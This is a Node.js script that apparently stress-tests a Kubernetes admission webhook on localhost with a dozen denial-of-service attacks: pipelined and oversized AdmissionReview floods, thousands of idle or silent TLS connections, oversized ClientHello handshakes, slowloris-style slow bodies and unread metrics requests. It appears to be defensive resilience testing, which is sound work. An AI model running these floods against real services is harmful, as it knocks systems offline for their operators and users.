// Somebody who wants to fill the webhook's memory: node attackers.mjs ATTACK PORT PROBE_PORT. A process of its own, as he is
// busier than whoever is attacked. Says "under way" when all of it has been sent, and goes on until it is ended.
import { connect as connectPlain } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect } from 'node:tls';

const [, , attack, port, probePort] = process.argv;
const HOST = '127.0.0.1';
const MIB = 1024 * 1024;
const SECRET = {
  apiVersion: 'v1',
  kind: 'Secret',
  metadata: { name: 'abuse', labels: { 'ecr-anywhere.centml.ai/managed': 'true' } },
  type: 'kubernetes.io/dockerconfigjson',
};

/** A request with the review of a Secret. */
function post(changes = {}) {
  const body = JSON.stringify({
    apiVersion: 'admission.k8s.io/v1',
    kind: 'AdmissionReview',
    request: {
      uid: 'abuse',
      kind: { group: '', version: 'v1', kind: 'Secret' },
      resource: { group: '', version: 'v1', resource: 'secrets' },
      operation: 'CREATE',
      object: { ...SECRET, ...changes },
    },
  });
  return head(Buffer.byteLength(body)) + body;
}

function head(length) {
  return `POST /sync?timeout=30s HTTP/1.1\r\nHost: webhook\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`;
}

/** Does something so often, twenty of them at a time. */
async function times(count, work) {
  let next = 0;
  const lane = async () => {
    while (next < count) await work(next++);
  };
  await Promise.all(Array.from({ length: 20 }, lane));
}

/** A connection once it is open, or lost. What comes on it is read unless somebody pauses it. */
async function opened(socket, event) {
  socket.on('error', () => undefined);
  await new Promise((done) => socket.once(event, done).once('close', done));
  return socket.resume();
}

/** Whoever attacks saves work where he can. */
let session;
const secure = () => {
  const socket = connect({ port: Number(port), host: HOST, rejectUnauthorized: false, session });
  socket.on('session', (last) => (session = last));
  return opened(socket, 'secureConnect');
};
const plain = (to = port) => opened(connectPlain(Number(to), HOST), 'connect');

function forEver(socket, milliseconds, work) {
  const timer = setInterval(work, milliseconds);
  socket.once('close', () => clearInterval(timer));
}

/** The beginning of a ClientHello of the largest length that OpenSSL takes, in records of 16,000 bytes. */
function largeHello() {
  const records = Array.from({ length: 7 }, () => {
    const record = Buffer.alloc(16_005, 3);
    record.set([22, 3, 1, 16_000 >> 8, 16_000 & 255]);
    return record;
  });
  records[0].set([1, 1, 0xff, 0xb8], 5);
  return Buffer.concat(records);
}

const ATTACKS = {
  /** Small reviews on one connection, none of which waits for an answer. */
  async pipelined() {
    const socket = await secure();
    for (let count = 0; count < 12; count++) socket.write(post().repeat(1_000));
  },

  /** One review on each connection. */
  async 'ordinary reviews'() {
    const review = post({ data: { '.dockerconfigjson': 'x'.repeat(7_600) } });
    await times(1_500, async () => (await secure()).write(review));
  },
  async 'reviews of 32 KB'() {
    const review = post({ data: { '.dockerconfigjson': 'x'.repeat(16_000) }, pad: 'x'.repeat(15_000) });
    await times(1_500, async () => (await secure()).write(review));
  },

  /** Refused reviews with much to echo, whose answers nobody reads. */
  async 'long types'() {
    const review = post({ type: '"'.repeat(4 * MIB - 500) });
    await times(30, async () => (await secure()).pause().write(review));
  },

  /** Answers that nobody reads, one after the other on each connection. */
  async 'unread answers'() {
    const review = post();
    await times(30, async () => {
      const socket = (await secure()).pause();
      forEver(socket, 20, () => socket.write(review));
    });
    await sleep(20_000);
  },

  async 'idle connections'() {
    await times(5_500, secure);
  },

  /** Idle connections that nobody can tell from the API server's. */
  async 'idle connections after a review'() {
    const review = post();
    await times(2_500, async () => {
      const socket = await secure();
      socket.write(review);
      await new Promise((done) => socket.once('data', done).once('close', done));
    });
  },

  /** Handshakes that never end. */
  async 'silent connections'() {
    await times(5_500, () => plain());
  },
  async 'large handshakes'() {
    const hello = largeHello();
    await times(1_200, async () => (await plain()).write(hello));
  },

  /** Bodies that come byte by byte. */
  async 'slow bodies'() {
    await times(2_000, async () => {
      const socket = await secure();
      socket.write(head(60_000) + ' '.repeat(20_000));
      forEver(socket, 1_000, () => socket.write(' '));
    });
  },

  /** Those of the port without TLS. */
  async 'unread metrics'() {
    const request = 'GET /metrics HTTP/1.1\r\nHost: webhook\r\n\r\n';
    await times(1_000, async () => {
      const socket = (await plain(probePort)).pause();
      forEver(socket, 100, () => socket.write(request));
    });
    await sleep(5_000);
  },
};

await ATTACKS[attack]();
console.log('under way');
setInterval(() => undefined, 1_000);
